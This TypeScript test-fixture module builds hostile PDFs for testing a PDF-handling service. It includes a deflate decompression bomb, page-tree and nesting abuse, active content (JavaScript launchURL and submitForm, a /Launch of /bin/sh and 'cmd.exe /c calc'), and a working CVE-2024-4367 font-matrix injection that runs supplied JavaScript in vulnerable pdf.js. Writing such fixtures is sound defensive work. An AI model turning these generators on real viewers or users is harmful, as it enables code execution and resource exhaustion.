/**
 * Hostile PDFs written byte by byte: odd page trees, bombs, deep nesting, active content and the
 * CVE-2024-4367 font-matrix payload. Every document with text carries CANARY so tests can prove
 * that no document text reaches a log line or an error message.
 */
import { deflateSync } from 'node:zlib';
import {
  assemble,
  bin,
  HELVETICA,
  type ObjectBody,
  pdfString,
  simpleDocument,
  stream,
  textContent,
} from './pdf-bytes.js';

/** Planted in the text of every hostile PDF that has text; must never appear in logs or errors. */
export const CANARY = 'CANARY-7f3a';

/** A harmless one-page document whose only text is the canary line and a sentence. */
export function canaryDocument(): Buffer {
  return simpleDocument([textContent([`${CANARY} reference page`, 'Nothing here is a statement.'])]).bytes;
}

/** Pages whose content streams are empty: a valid PDF with no text at all. */
export function blankPages(count: number): Buffer {
  return simpleDocument(Array.from({ length: count }, () => '')).bytes;
}

/** One page that paints a grey RGB image and nothing else: what a scan without OCR looks like. */
export function imageOnlyPage(): Buffer {
  const side = 64;
  const pixels = Buffer.alloc(side * side * 3, 0x80);
  return assemble(
    [
      '<< /Type /Catalog /Pages 2 0 R >>',
      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /XObject << /Im1 5 0 R >> >> /Contents 4 0 R >>',
      stream('', 'q 400 0 0 400 100 300 cm /Im1 Do Q'),
      stream(
        `/Type /XObject /Subtype /Image /Width ${side} /Height ${side} /ColorSpace /DeviceRGB /BitsPerComponent 8`,
        pixels,
      ),
    ],
    { root: 1 },
  ).bytes;
}

/** A /Pages root with /Count 0 and no kids. */
export function zeroPages(): Buffer {
  return assemble(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [] /Count 0 >>'], { root: 1 })
    .bytes;
}

/**
 * `groups × perGroup` pages that all share ONE tiny content stream, under intermediate /Pages
 * nodes: a few hundred KB that claims thousands of pages.
 */
export function manyPages(groups: number, perGroup: number): Buffer {
  const objects: ObjectBody[] = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '',
    HELVETICA,
    stream('', textContent([`${CANARY} page`])),
  ];
  const nodes: number[] = [];
  for (let g = 0; g < groups; g++) {
    const node = objects.length + 1;
    objects.push('');
    nodes.push(node);
    const kids: string[] = [];
    for (let k = 0; k < perGroup; k++) {
      kids.push(`${objects.length + 1} 0 R`);
      objects.push(
        `<< /Type /Page /Parent ${node} 0 R /MediaBox [0 0 200 200] /Resources << /Font << /F1 3 0 R >> >> /Contents 4 0 R >>`,
      );
    }
    objects[node - 1] = `<< /Type /Pages /Parent 2 0 R /Kids [${kids.join(' ')}] /Count ${perGroup} >>`;
  }
  objects[1] = `<< /Type /Pages /Kids [${nodes.map((n) => `${n} 0 R`).join(' ')}] /Count ${groups * perGroup} >>`;
  return assemble(objects, { root: 1 }).bytes;
}

/**
 * One page whose content stream is the canary line followed by `mebibytes` MiB of spaces: ~1000:1
 * under deflate, so a file of a few hundred KB inflates to hundreds of MB when the page is read.
 */
export function flateBomb(mebibytes: number): Buffer {
  const head = bin(`${textContent([`${CANARY} bomb page`])}\n`);
  const packed = deflateSync(Buffer.concat([head, Buffer.alloc(mebibytes * 1024 * 1024, 0x20)]), {
    level: 9,
  });
  return assemble(
    [
      '<< /Type /Catalog /Pages 2 0 R >>',
      '<< /Type /Pages /Kids [4 0 R] /Count 1 >>',
      HELVETICA,
      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 3 0 R >> >> /Contents 5 0 R >>',
      Buffer.concat([
        bin(`<< /Length ${packed.length} /Filter /FlateDecode >>\nstream\n`),
        packed,
        bin('\nendstream'),
      ]),
    ],
    { root: 1 },
  ).bytes;
}

/** The page dictionary carries `/Deep` nested `depth` levels: arrays `[[[…]]]` or dicts `<< /A << … >> >>`. */
export function deeplyNested(kind: 'array' | 'dict', depth: number): Buffer {
  const deep =
    kind === 'array'
      ? `${'['.repeat(depth)}${']'.repeat(depth)}`
      : `${'<< /A '.repeat(depth)}1${' >>'.repeat(depth)}`;
  return simpleDocument([textContent([`${CANARY} nested`])], { pageExtra: `/Deep ${deep}` }).bytes;
}

/** The same nesting inside the page's content stream, before the text operators. */
export function deeplyNestedContent(depth: number): Buffer {
  return simpleDocument([
    `${'['.repeat(depth)}${']'.repeat(depth)} pop\n${textContent([`${CANARY} nested`])}`,
  ]).bytes;
}

/** One text line of `chars` characters (words and amounts), at 1 pt so it stays one text item per run. */
export function hugeLine(chars: number): Buffer {
  const unit = 'lorem ipsum 12.34 dolor ';
  const line = `${CANARY} ${unit.repeat(Math.ceil(chars / unit.length))}`.slice(0, chars);
  return simpleDocument([`BT /F1 1 Tf 10 400 Td ${pdfString(line)} Tj ET`]).bytes;
}

/**
 * Every kind of active content a viewer might run, all pointing at `url`: a document-level
 * JavaScript name tree, /OpenAction JavaScript chained to a /URI, a /Launch of a shell, a
 * /SubmitForm, page open/close actions and a full-page link annotation.
 */
export function activeContent(url: string): Buffer {
  const first = 6; // objects 1–3 are fixed, 4–5 are the one page and its content
  const [js, launch, uri, submit, link] = [first, first + 1, first + 2, first + 3, first + 4];
  const script = `app.launchURL('${url}', true); this.submitForm('${url}'); this.exportDataObject({ cName: 'a', nLaunch: 2 });`;
  return simpleDocument([textContent([`${CANARY} active content`])], {
    catalogExtra: `/OpenAction ${js} 0 R /AA << /WC ${launch} 0 R >> /Names << /JavaScript << /Names [(a) ${js} 0 R] >> >> /URI << /Base ${pdfString(url)} >>`,
    pageExtra: `/AA << /O ${uri} 0 R /C ${submit} 0 R >> /Annots [${link} 0 R]`,
    more: [
      `<< /Type /Action /S /JavaScript /JS ${pdfString(script)} /Next ${uri} 0 R >>`,
      '<< /Type /Action /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) /P (/c calc) >> /NewWindow true >>',
      `<< /Type /Action /S /URI /URI ${pdfString(url)} >>`,
      `<< /Type /Action /S /SubmitForm /F << /FS /URL /F ${pdfString(url)} >> /Flags 4 >>`,
      `<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /Border [0 0 0] /A ${uri} 0 R >>`,
    ],
  }).bytes;
}

/**
 * The public CVE-2024-4367 shape: a Type1 font with an (empty) CFF program whose /FontMatrix ends
 * in a string that breaks out of pdf.js's compiled glyph code. `payload` is the JavaScript that a
 * vulnerable pdf.js (eval allowed, glyphs rendered) would run.
 */
export function fontMatrixInjection(payload: string): Buffer {
  const matrix = `/FontMatrix [0.1 0 0 0.1 0 (1\\);\n${payload.replace(/[()]/g, (c) => `\\${c}`)}\n//)]`;
  const objects: ObjectBody[] = [
    '<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 5 0 R /F2 7 0 R >> /Pattern << /P1 8 0 R >> >> /Contents 4 0 R >>',
    stream(
      '',
      `/Pattern cs /P1 scn BT 50 500 Td /F1 150 Tf (AbCdEf) Tj ET\n${textContent([`${CANARY} font matrix`], { size: 10 }).replace('/F1', '/F2')}`,
      false,
    ),
    `<< /Type /Font /Subtype /Type1 /BaseFont /PAXEKO+SourceSansPro-Bold /FirstChar 65 /LastChar 102 /Widths [573 0 582 0 548 0] /Encoding /WinAnsiEncoding ${matrix} /FontDescriptor 6 0 R >>`,
    '<< /Type /FontDescriptor /FontName /PAXEKO+SourceSansPro-Bold /Flags 32 /FontBBox [-6 -12 579 713] /ItalicAngle 0 /Ascent 751 /Descent -173 /CapHeight 713 /StemV 100 /FontFile3 9 0 R >>',
    HELVETICA,
    '<< /Type /Pattern /PatternType 2 /Shading << /ShadingType 2 /ColorSpace /DeviceRGB /Coords [46 400 537 400] /Function << /FunctionType 2 /Domain [0 1] /C0 [0 0 1] /C1 [1 0.6 0] /N 1 >> >> >>',
    stream('/Subtype /Type2', '', false),
  ];
  return assemble(objects, { root: 1 }).bytes;
}
